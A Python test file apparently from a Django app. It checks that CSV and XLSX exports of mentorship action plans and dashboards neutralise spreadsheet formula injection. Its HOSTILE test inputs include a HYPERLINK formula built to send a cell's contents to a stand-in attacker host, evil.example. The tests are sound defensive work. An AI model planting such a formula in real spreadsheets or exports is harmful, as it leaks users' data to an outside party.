"""Exports never carry a live formula (OWASP's CSV-injection rule): whatever a person typed into an
action row, a mentorship title or a city name, the spreadsheet shows it as text. Each export is
read back the way a spreadsheet program would, with the csv module and openpyxl."""

import csv
import io

import pytest
from django.urls import reverse
from django_scopes import scope
from openpyxl import load_workbook

from programmes.actionplans import services
from programmes.core.spreadsheets import csv_cell
from tests.factories import CityFactory, MembershipFactory, MentorshipFactory, ProgrammeFactory, UserFactory

from .conftest import add, person

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
           "\tTabbed", "\rReturned"]


@pytest.fixture
def hostile_mentorship(network_a):
    programme = ProgrammeFactory(network=network_a, title="=1+2")
    return MentorshipFactory(network=network_a, programme=programme, title="@mentorship",
                             mentee=CityFactory(network=network_a, name="-Capaci"),
                             mentor=CityFactory(network=network_a, name="+Mechelen"))


@pytest.fixture
def hostile_plan(network_a, hostile_mentorship):
    with scope(network=network_a):
        plan = services.plan_for(hostile_mentorship)
    for text in HOSTILE:
        add(plan, text, lead=text, resources=text, success_measure=text, results=text)
    return plan


def _coordinator(network):
    user = UserFactory()
    MembershipFactory(network=network, user=user, role="coordinator")
    return user


def _texts(rows):
    return [value for row in rows for value in row]


def _csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _is_inert(text):
    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_that_would_be_formulas_start_with_a_quote():
    assert [csv_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert csv_cell("Buddy scheme") == "Buddy scheme"
    assert csv_cell("") == ""
    assert csv_cell(-3) == -3
    assert csv_cell(None) is None


@pytest.mark.parametrize("name", ["action_plan_export", "programme_action_plans_export"])
def test_action_plan_csv_exports_neutralise_formulas(client, network_a, hostile_mentorship, hostile_plan, name):
    client.force_login(_coordinator(network_a))
    pk = hostile_mentorship.pk if name == "action_plan_export" else hostile_mentorship.programme.pk
    rows = _csv(client.get(reverse(name, kwargs={"network": "network-a", "pk": pk, "fmt": "csv"})))
    assert len(rows) == 1 + len(HOSTILE)
    assert all(_is_inert(text) for text in _texts(rows)), [t for t in _texts(rows) if not _is_inert(t)]
    actions = [row[7] for row in rows[1:]]
    assert actions == ["'" + text for text in HOSTILE]
    assert rows[1][:4] == ["'=1+2", "'@mentorship", "'-Capaci", "'+Mechelen"]
    assert [row[6] for row in rows[1:]] == [str(n) for n in range(1, len(HOSTILE) + 1)]


@pytest.mark.parametrize("name", ["action_plan_export", "programme_action_plans_export"])
def test_action_plan_xlsx_exports_store_formulas_as_text(client, network_a, hostile_mentorship, hostile_plan, name):
    client.force_login(_coordinator(network_a))
    pk = hostile_mentorship.pk if name == "action_plan_export" else hostile_mentorship.programme.pk
    reply = client.get(reverse(name, kwargs={"network": "network-a", "pk": pk, "fmt": "xlsx"}))
    sheet = load_workbook(io.BytesIO(reply.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str) and not _is_inert(cell.value)]
    assert texts
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
    # XML reads a stored carriage return back as a line feed: the text is the same, inert either way
    assert [sheet.cell(row=row, column=8).value for row in range(2, 2 + len(HOSTILE))] == \
        [text.replace("\r", "\n") for text in HOSTILE]
    assert [sheet.cell(row=row, column=col).value for row, col in ((2, 1), (2, 2), (2, 3), (2, 4))] == \
        ["=1+2", "@mentorship", "-Capaci", "+Mechelen"]
    numbers = [sheet.cell(row=row, column=7) for row in range(2, 2 + len(HOSTILE))]
    assert [cell.value for cell in numbers] == list(range(1, len(HOSTILE) + 1))
    assert all(cell.data_type == "n" for cell in numbers)


def test_the_dashboard_csv_neutralises_formulas(client, network_a, hostile_mentorship):
    person(network_a, hostile_mentorship, "mentee_team")
    client.force_login(_coordinator(network_a))
    reply = client.get(reverse("programme_dashboard_csv",
                               kwargs={"network": "network-a", "pk": hostile_mentorship.programme.pk}))
    rows = _csv(reply)
    assert all(_is_inert(text) for text in _texts(rows)), [t for t in _texts(rows) if not _is_inert(t)]
    row = next(row for row in rows if row[0] == "'@mentorship")
    assert row[1].startswith("'-Capaci")
    assert row[2].startswith("'+Mechelen")
